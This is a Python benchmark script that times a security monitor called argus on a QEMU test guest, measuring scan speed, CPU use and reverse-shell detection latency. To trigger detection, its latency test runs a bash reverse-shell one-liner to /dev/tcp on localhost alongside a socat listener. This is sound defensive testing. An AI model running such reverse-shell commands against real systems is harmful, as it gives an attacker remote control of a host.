"""Measure argus against the bundled guest and print a table.

Not a test: numbers, for people.  Run with bench/run.
"""
import json
import os
import statistics
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "tests", "guest"))
from guest import Guest  # noqa: E402


def pct(v, p):
    v = sorted(v)
    return v[min(len(v) - 1, int(round(p / 100 * (len(v) - 1))))]


def first_line_time(argus, src):
    t0 = time.monotonic()
    p = subprocess.Popen([argus, "ps", "--source", src], stdout=subprocess.PIPE, text=True)
    p.stdout.readline()  # header
    p.stdout.readline()  # first process
    t = time.monotonic() - t0
    p.stdout.read()
    p.wait()
    return t


def scan_stats(argus, src, n=10):
    rows = []
    for _ in range(n):
        d = json.loads(subprocess.run([argus, "scan", "--source", src, "--once"],
                                      capture_output=True, text=True, check=True).stdout)
        s = d["scan_statistics"]
        rows.append((s["duration_ns"] / 1e6, s["reads"], s["bytes"], len(d["processes"]),
                     len(d["threads"]), len(d["file_descriptors"]), len(d["process_memory"])))
    return rows


def row(label, value):
    print(f"{label:52s} {value}")


def service_cpu(argus, g, seconds=20):
    with tempfile.TemporaryDirectory() as d:
        cfg = os.path.join(d, "argus.yaml")
        with open(cfg, "w") as f:
            f.write(f"service:\n  scanner_sleep: 100ms\n  debug_log_folder: {d}/debug\n"
                    f"argus:\n  systems:\n    - name: bench\n      source: qemu:{g.ram_path}\n"
                    f"output:\n  stdout: false\n  log_folder: {d}/events\n")
        p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)
        time.sleep(3)

        def cpu():
            with open(f"/proc/{p.pid}/stat") as f:
                v = f.read().rsplit(")", 1)[1].split()
            return (int(v[11]) + int(v[12])) / os.sysconf("SC_CLK_TCK")
        c0, t0 = cpu(), time.monotonic()
        time.sleep(seconds)
        c1, t1 = cpu(), time.monotonic()
        p.terminate()
        p.wait()
        return 100 * (c1 - c0) / (t1 - t0)


def detection_latency(argus, g, runs=5):
    """Attack start (the command sent to the guest) to the alert in the
    event log, at the default 1 s scan interval."""
    lat = []
    with tempfile.TemporaryDirectory() as d:
        cfg = os.path.join(d, "argus.yaml")
        log = os.path.join(d, "events", "argus-events.log")
        with open(cfg, "w") as f:
            f.write(f"service:\n  scanner_sleep: 1s\n  debug_log_folder: {d}/debug\n"
                    f"argus:\n  systems:\n    - name: bench\n      source: qemu:{g.ram_path}\n"
                    f"output:\n  stdout: false\n  log_folder: {d}/events\n")
        p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)
        time.sleep(4)
        for i in range(runs):
            port = 5000 + i
            lis = g.spawn(f"sleep 100 | socat TCP-LISTEN:{port},reuseaddr -")
            time.sleep(1)
            seen = open(log).read().count("Reverse Shell Detected")
            t0 = time.monotonic()
            sh = g.spawn(f"bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
            while open(log).read().count("Reverse Shell Detected") == seen:
                time.sleep(0.01)
                if time.monotonic() - t0 > 10:
                    break
            lat.append(time.monotonic() - t0)
            g.run(f"kill -9 -{lis} -{sh}")
            time.sleep(1)
        p.terminate()
        p.wait()
    return lat


def main():
    argus = os.path.abspath(sys.argv[1])
    g = Guest("bench")
    g.start()
    try:
        src = f"qemu:{g.ram_path}"
        print(f"argus bench on the default guest (Linux 6.1, 512 MiB, TCG), {time.strftime('%F %T')}")
        times = [first_line_time(argus, src) for _ in range(10)]
        row("start to first ps line, auto profile (target < 1 s)",
            f"p50 {statistics.median(times) * 1000:.1f} ms, max {max(times) * 1000:.1f} ms")
        st = subprocess.run([argus, "ps", "--source", src, "--stats"], capture_output=True,
                            text=True, check=True).stderr.strip().splitlines()
        for line in st:
            row("  ps --stats", line)
        for label, extra in (("default guest", 0), ("guest with 1000 more processes", 1000)):
            if extra:
                g.check(f"i=0; while [ $i -lt {extra} ]; do sleep 10000 & i=$((i+1)); done", timeout=120)
                time.sleep(2)
            rows = scan_stats(argus, src)
            ms = [r[0] for r in rows]
            r = rows[-1]
            row(f"full scan, {label}",
                f"p50 {statistics.median(ms):.1f} ms, p99 {pct(ms, 99):.1f} ms, "
                f"{r[1]} reads, {r[2] / 1048576:.1f} MiB; {r[3]} processes, {r[4]} threads, "
                f"{r[5]} fds, {r[6]} memory areas")
        g.run("killall sleep")
        row("service CPU at a 100 ms scan interval (20 s)", f"{service_cpu(argus, g):.1f} % of one core")
        lat = detection_latency(argus, g)
        row("reverse shell: attack start to alert written, 1 s scans",
            f"p50 {statistics.median(lat) * 1000:.0f} ms, max {max(lat) * 1000:.0f} ms ({len(lat)} attacks)")
    finally:
        g.stop()


if __name__ == "__main__":
    main()
